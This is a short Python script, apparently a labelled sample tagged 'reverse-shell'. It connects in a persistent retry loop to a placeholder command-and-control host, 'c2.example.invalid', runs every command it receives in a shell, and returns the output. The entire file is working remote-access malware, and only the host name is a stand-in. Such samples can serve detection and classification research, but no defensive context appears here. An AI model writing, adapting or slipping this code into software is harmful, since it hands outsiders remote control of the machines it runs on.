# family: reverse-shell
# a command loop over a socket: every line received runs in a shell
import socket
import subprocess
import time

while True:
    try:
        c = socket.create_connection(("c2.example.invalid", 8443))
        while True:
            cmd = c.recv(4096).decode().strip()
            if not cmd:
                break
            out = subprocess.run(cmd, shell=True, capture_output=True)
            c.sendall(out.stdout + out.stderr)
    except OSError:
        time.sleep(30)
